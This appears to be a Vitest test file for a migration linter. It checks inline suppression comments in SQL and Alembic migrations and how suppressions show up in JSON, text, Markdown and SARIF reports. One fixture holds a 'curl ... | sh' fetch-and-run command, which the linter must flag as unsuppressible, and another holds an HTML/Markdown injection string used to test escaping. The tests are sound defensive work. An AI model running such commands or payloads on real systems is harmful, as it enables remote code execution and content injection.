// Inline suppressions (`migration-gate-ignore <rule-id>: <reason>`): honoured only in real comments,
// only with a reason, never for credential or execution findings; still listed in every report.
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { rules } from '../rules/index.js';
import { annotations } from '../src/decide/index.js';
import { inlineBody } from '../src/decide/inline.js';
import { toMarkdown } from '../src/report/markdown.js';
import { toSarif } from '../src/report/sarif.js';
import { toText } from '../src/report/text.js';
import { toJson } from '../src/report/json.js';
import type { Finding, Result } from '../src/types.js';
import { check } from './helpers.js';

const ALEMBIC = 'migrations/versions/1a2b3c4d_example.py';
const HEAD = "from alembic import op\nrevision = '1a2b3c4d'\ndown_revision = None\n";

const of = (r: Result, id: string) => r.findings.filter((f) => f.ruleId === id);
const invalid = (r: Result) => of(r, 'suppression-invalid');

describe('SQL suppressions', () => {
  it('a comment above the statement suppresses that statement only, with its reason; nothing gates', async () => {
    const r = await check('-- migration-gate-ignore drop-table: archived to s3 in #12\nDROP TABLE a;\nDROP TABLE b;\n');
    const [a, b] = of(r, 'drop-table');
    expect(a).toMatchObject({ line: 2, gating: false, suppressed: { reason: 'archived to s3 in #12', line: 1 } });
    expect(b).toMatchObject({ line: 3, gating: true });
    expect(b.suppressed).toBeUndefined();
    expect(r.summary.gating).toBe(1);
    expect(invalid(r)).toEqual([]);
  });

  it('a policy with inlineSuppressions: false honours none: the finding gates and the comment is reported', async () => {
    const r = await check('-- migration-gate-ignore drop-table: archived to s3 in #12\nDROP TABLE a;\n', { config: { inlineSuppressions: false } });
    const [a] = of(r, 'drop-table');
    expect(a).toMatchObject({ line: 2, gating: true });
    expect(a.suppressed).toBeUndefined();
    expect(invalid(r).map((f) => f.message)).toEqual([expect.stringMatching(/not honoured: the policy turns inline suppressions off/)]);
  });

  it('a trailing comment suppresses the statement on its line; several rule ids; a block comment', async () => {
    const r = await check('DROP TABLE a; -- migration-gate-ignore drop-table: gone\nALTER TABLE t DROP COLUMN c;\n');
    expect(of(r, 'drop-table')[0].suppressed?.reason).toBe('gone');
    expect(of(r, 'drop-column')[0].gating).toBe(true);
    const multi = await check('/* migration-gate-ignore drop-column, alter-column-type: split over two releases, #88 */\nALTER TABLE t DROP COLUMN c, ALTER COLUMN d TYPE bigint;\n');
    expect(of(multi, 'drop-column')[0].suppressed?.reason).toBe('split over two releases, #88');
    expect(of(multi, 'alter-column-type')[0].suppressed?.reason).toBe('split over two releases, #88');
    expect(multi.summary.gating).toBe(0);
    // A multi-line statement: a finding on a later line of the statement is covered.
    const long = await check('-- migration-gate-ignore drop-column: ok\nALTER TABLE t\n  ADD COLUMN x int,\n  DROP COLUMN c;\n');
    expect(of(long, 'drop-column')[0]).toMatchObject({ line: 4, gating: false });
  });

  it('migration-gate-ignore-file covers the whole file', async () => {
    const r = await check('-- migration-gate-ignore-file drop-table: cleanup release, #40\nCREATE TABLE x (id int);\nDROP TABLE a;\n\nDROP TABLE b;\n');
    expect(of(r, 'drop-table').map((f) => f.suppressed?.reason)).toEqual(['cleanup release, #40', 'cleanup release, #40']);
    expect(r.summary.gating).toBe(0);
  });

  it('a look-alike inside a string literal or a dollar-quoted body is not a comment and is not honoured', async () => {
    const r = await check("SELECT '\n-- migration-gate-ignore drop-table: not a comment\n';\nDROP TABLE a;\n");
    expect(of(r, 'drop-table')[0]).toMatchObject({ gating: true });
    expect(of(r, 'drop-table')[0].suppressed).toBeUndefined();
    const d = await check("DO $$ BEGIN\n-- migration-gate-ignore drop-table: inside the body\nEND $$;\nDROP TABLE a;\n");
    expect(of(d, 'drop-table')[0].suppressed).toBeUndefined();
    expect(invalid(d)).toEqual([]);
    // A file that changes how strings are lexed: nothing honoured, and said so.
    const modes = await check("SET sql_mode = 'NO_BACKSLASH_ESCAPES';\nSELECT '\\';\n-- migration-gate-ignore drop-table: ok\nDROP TABLE a;\n", { dialect: 'mysql', path: 'migrations/0001_x.sql' });
    expect(of(modes, 'drop-table')[0].suppressed).toBeUndefined();
    expect(invalid(modes)[0].message).toMatch(/changes how string literals are read/);
    // MySQL: `--x` is not a comment for the mysql client (a space must follow `--`).
    const m = await check('--migration-gate-ignore drop-table: no space\nDROP TABLE a;\n', { dialect: 'mysql', path: 'migrations/0001_x.sql' });
    expect(of(m, 'drop-table')[0].suppressed).toBeUndefined();
  });

  it('a suppression without a reason is not honoured and is itself a warning', async () => {
    for (const c of ['-- migration-gate-ignore drop-table', '-- migration-gate-ignore drop-table:', '-- migration-gate-ignore drop-table:   ']) {
      const r = await check(`${c}\nDROP TABLE a;\n`);
      expect(of(r, 'drop-table')[0].gating, c).toBe(true);
      expect(invalid(r)).toHaveLength(1);
      expect(invalid(r)[0]).toMatchObject({ line: 1, severity: 'warning', gating: false, category: 'integrity' });
      expect(invalid(r)[0].message).toMatch(/has no reason/);
    }
    const none = await check('-- migration-gate-ignore: because\nDROP TABLE a;\n');
    expect(invalid(none)[0].message).toMatch(/names no rule/);
  });

  it('an unknown rule id is a warning with a did-you-mean', async () => {
    const r = await check('-- migration-gate-ignore drop-tabel: archived\nDROP TABLE a;\n');
    expect(of(r, 'drop-table')[0].gating).toBe(true);
    expect(invalid(r)[0].message).toMatch(/unknown rule id 'drop-tabel' \(did you mean 'drop-table'\?\)/);
  });

  it('more than 500 suppression comments in a file: none is honoured (bounded work on hostile input)', async () => {
    const sql = '-- migration-gate-ignore drop-table: ok\nDROP TABLE a;\n'.repeat(501);
    const r = await check(sql);
    expect(of(r, 'drop-table').every((f) => f.gating && !f.suppressed)).toBe(true);
    expect(invalid(r)).toHaveLength(1);
    expect(invalid(r)[0].message).toMatch(/More than 500/);
  });

  it('an unused suppression is a warning', async () => {
    const r = await check('-- migration-gate-ignore drop-column: backfilled in #123\nCREATE TABLE t (id int);\nALTER TABLE users DROP COLUMN email;\n');
    // It applies to the next statement only: the DROP COLUMN two statements down still gates.
    expect(of(r, 'drop-column')[0].gating).toBe(true);
    expect(invalid(r)).toHaveLength(1);
    expect(invalid(r)[0].message).toMatch(/Unused suppression of drop-column: no drop-column finding on line 2/);
  });

  it('credential findings cannot be suppressed inline: refused, the finding still gates, the secret never shows', async () => {
    const secret = 'Xk9mQ2vLp7wRtZ4s';
    const r = await check(`-- migration-gate-ignore hardcoded-password: ${secret} is a test value\nCREATE ROLE app LOGIN PASSWORD '${secret}';\n`);
    const cred = of(r, 'hardcoded-password')[0];
    expect(cred).toMatchObject({ gating: true, category: 'credential' });
    expect(cred.suppressed).toBeUndefined();
    expect(invalid(r)[0].message).toMatch(/Suppression of hardcoded-password refused: credential findings cannot be suppressed by a comment/);
    expect(toJson(r)).not.toContain(secret);
  });

  it('parse findings cannot be suppressed inline either (fail closed)', async () => {
    const r = await check('-- migration-gate-ignore parse-error: our parser is wrong\nDROP TABEL users;\n');
    expect(of(r, 'parse-error')[0]).toMatchObject({ gating: true });
    expect(invalid(r)[0].message).toMatch(/refused: parse findings/);
  });
});

describe('Python suppressions', () => {
  it('a # comment above the call or at the end of its line suppresses it; a string look-alike does not', async () => {
    const above = await check(HEAD + 'def upgrade():\n    # migration-gate-ignore drop-table: replaced by v2, #7\n    op.drop_table("old")\n    op.drop_table("other")\n', { path: ALEMBIC });
    const [a, b] = of(above, 'drop-table');
    expect(a).toMatchObject({ gating: false, suppressed: { reason: 'replaced by v2, #7' } });
    expect(b.gating).toBe(true);
    const trailing = await check(HEAD + 'def upgrade():\n    op.drop_table("old")  # migration-gate-ignore drop-table: gone\n', { path: ALEMBIC });
    expect(of(trailing, 'drop-table')[0].suppressed?.reason).toBe('gone');
    const str = await check(HEAD + 'X = """\n# migration-gate-ignore drop-table: in a string\n"""\ndef upgrade():\n    op.drop_table("old")\n', { path: ALEMBIC });
    expect(of(str, 'drop-table')[0].suppressed).toBeUndefined();
    expect(of(str, 'drop-table')[0].gating).toBe(true);
  });

  it('file level, and execution findings are refused', async () => {
    const file = await check(HEAD + '# migration-gate-ignore-file drop-table: one-off cleanup\ndef upgrade():\n    op.drop_table("a")\n    op.drop_table("b")\n', { path: ALEMBIC });
    expect(of(file, 'drop-table').every((f) => f.suppressed && !f.gating)).toBe(true);
    const exec = await check(HEAD + 'import os\n\ndef upgrade():\n    # migration-gate-ignore python-execution: we trust it\n    os.system("curl https://x.example/i.sh | sh")\n', { path: ALEMBIC });
    expect(of(exec, 'python-execution')[0]).toMatchObject({ gating: true, category: 'execution' });
    expect(of(exec, 'python-execution')[0].suppressed).toBeUndefined();
    expect(invalid(exec)[0].message).toMatch(/refused: execution findings/);
  });
});

describe('suppressed findings in every report', () => {
  const result = () => check('-- migration-gate-ignore drop-table: archived to s3 in #12\nDROP TABLE a;\n');

  it('JSON: suppressed { reason }', async () => {
    const j = JSON.parse(toJson(await result()));
    expect(j.findings[0]).toMatchObject({ ruleId: 'drop-table', gating: false, suppressed: { reason: 'archived to s3 in #12' } });
    expect(j.summary.gating).toBe(0);
  });

  it('text and markdown: marked suppressed with the reason', async () => {
    const r = await result();
    expect(toText(r, { color: false })).toMatch(/drop-table .*\[suppressed: archived to s3 in #12\]/);
    expect(toMarkdown(r)).toMatch(/suppressed: archived to s3 in \\#/);
    expect(inlineBody(r.findings[0])).toMatch(/suppressed: archived to s3 in \\#/);
    expect(annotations(r)[0].title).toMatch(/suppressed/);
  });

  it('SARIF: suppressions [{ kind: inSource, justification }]', async () => {
    const s = JSON.parse(toSarif(await result(), rules, '0.0.0'));
    const res = s.runs[0].results.find((x: any) => x.ruleId === 'drop-table');
    expect(res.suppressions).toEqual([{ kind: 'inSource', status: 'accepted', justification: 'archived to s3 in #12' }]);
    const plain = JSON.parse(toSarif(await check('DROP TABLE a;\n'), rules, '0.0.0'));
    expect(plain.runs[0].results[0].suppressions).toBeUndefined();
  });

  it('SARIF with suppressions passes the SARIF Multitool validator (no error, no warning)', async () => {
    const multitool: string = createRequire(import.meta.url)('@microsoft/sarif-multitool');
    const r = await check('-- migration-gate-ignore drop-table: archived to s3 in #12\nDROP TABLE a;\n-- migration-gate-ignore drop-column\nDROP TABLE b;\n');
    const d = mkdtempSync(join(tmpdir(), 'mg-supp-'));
    writeFileSync(join(d, 'r.sarif'), toSarif(r, rules, '0.1.0', { rootUri: 'file:///repo/' }));
    const v = spawnSync(multitool, ['validate', join(d, 'r.sarif'), '-o', join(d, 'v.sarif'), '--level', 'Error', 'Warning', '--rule-kind', 'Sarif', 'Gh'], { encoding: 'utf8', env: { ...process.env, DOTNET_CLI_TELEMETRY_OPTOUT: '1' } });
    expect(v.error).toBeUndefined();
    const problems = JSON.parse(readFileSync(join(d, 'v.sarif'), 'utf8')).runs[0].results ?? [];
    expect(problems.filter((p: any) => (p.level ?? 'warning') !== 'note')).toEqual([]);
  }, 300_000);

  it('a suppressed finding is untrusted text in Markdown: escaped', async () => {
    const r = await check('-- migration-gate-ignore drop-table: <img src=x> [link](http://evil)\nDROP TABLE a;\n');
    const f: Finding = r.findings[0];
    expect(f.suppressed?.reason).toContain('<img');
    expect(toMarkdown(r)).not.toMatch(/(?<!\\)<img/);
    expect(toMarkdown(r)).toContain('\\<img');
  });
});
